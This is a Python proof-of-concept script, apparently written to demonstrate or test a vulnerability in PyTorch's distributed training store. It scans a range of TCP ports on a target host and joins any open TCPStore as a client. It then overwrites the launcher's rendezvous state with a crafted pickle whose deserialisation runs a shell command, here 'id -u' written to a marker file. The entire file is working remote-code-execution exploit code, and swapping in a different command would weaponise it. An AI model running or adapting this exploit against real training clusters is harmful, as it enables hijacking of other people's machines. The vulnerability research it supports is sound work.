"""What another host does to a training that it reaches: for the interpreter with torch.

``python store_attack.py ADDRESS MARKER STOP FIRST LAST`` knocks at these TCP ports again and again until there is a file STOP, and then
once more. Where one is open it speaks as a client of torch's store, and puts a pickle where torch's launcher keeps its
state, which says ``id -u > MARKER``. It prints the ports that were open.
"""

from __future__ import annotations

import base64
import datetime
import os
import pickle
import socket
import sys
import time

STATE = "torch.rendezvous."
"""How the key of the launcher's state begins (torch/distributed/elastic/rendezvous/c10d_rendezvous_backend.py)."""


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"id -u >{self.marker}",)


def open_ports(address: str, ports: range) -> list[int]:
    found = []
    for port in ports:
        with socket.socket() as caller:
            caller.settimeout(1)
            if caller.connect_ex((address, port)) == 0:
                found.append(port)
    return found


def attack(address: str, port: int, marker: str) -> None:
    import torch.distributed as dist  # takes seconds, and no port need be open

    store = dist.TCPStore(address, port, is_master=False, timeout=datetime.timedelta(seconds=5), wait_for_workers=False)
    for key in store.list_keys():
        if key.startswith(STATE) and "/" not in key:
            store.set(key, base64.b64encode(pickle.dumps(Payload(marker))).decode())


def main() -> None:
    address, marker, stop, first, last_port = sys.argv[1:]
    ports = range(int(first), int(last_port) + 1)
    seen: set[int] = set()
    while True:
        last = os.path.exists(stop)
        for port in open_ports(address, ports):
            seen.add(port)
            try:
                attack(address, port, marker)
            except RuntimeError as error:
                print(f"{port}: {str(error).splitlines()[0]}", file=sys.stderr)
        if last:
            break
        time.sleep(0.2)
    print(sorted(seen))


if __name__ == "__main__":
    main()
